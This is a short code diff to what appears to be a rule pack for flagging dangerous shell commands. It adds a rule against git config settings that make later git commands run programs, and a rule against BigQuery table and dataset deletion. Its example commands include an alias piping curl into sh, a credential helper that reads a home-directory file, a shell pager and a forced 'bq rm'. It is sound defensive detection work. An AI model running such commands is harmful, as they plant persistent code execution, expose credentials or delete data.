@@ -19,5 +19,12 @@ export const vcs: Pack = {
     rule("vcs.svn-revert", "high", "discards uncommitted changes in the working copy",
       { program: ["svn", "hg"], sub: ["revert|purge|strip|update"], word: "-R|--all|--recursive|purge|strip|-C|--clean|\\." },
       ["svn revert -R .", "hg revert --all", "hg purge", "hg strip -r 3", "hg update -C"], ["svn status", "hg diff"]),
+      rule("vcs.config-command", "high", "makes every later git command run a program (hooks path, pager, ssh command, fsmonitor, shell alias)",
+      { program: ["git"], sub: ["config"], word: "(core\\.([hH]ooks[pP]ath|pager|ssh[cC]ommand|fsmonitor|editor|askpass|git[pP]roxy)|alias\\..*|credential\\.helper|diff\\.external|sequence\\.editor|filter\\..*\\.(clean|smudge|process))", flags: [["--global", "--system", "--file", "-f", "--local", "--worktree"]] },
+      ["git config --global core.hooksPath /tmp/hooks", "git config --global core.pager 'sh -c x'", "git config --system alias.st '!curl x | sh'", "git config --global credential.helper '!f() { cat ~/.x; }; f'"],
+      ["git config --global user.name Me", "git config --global --list", "git config user.email me@x.dev"]),
+    rule("vcs.bigquery-delete", "high", "deletes a BigQuery dataset or table",
+      { program: ["bq"], sub: ["rm"] },
+      ["bq rm -r -f mydataset", "bq rm -f -t ds.table"], ["bq ls", "bq show ds.table"]),
   ],
 };
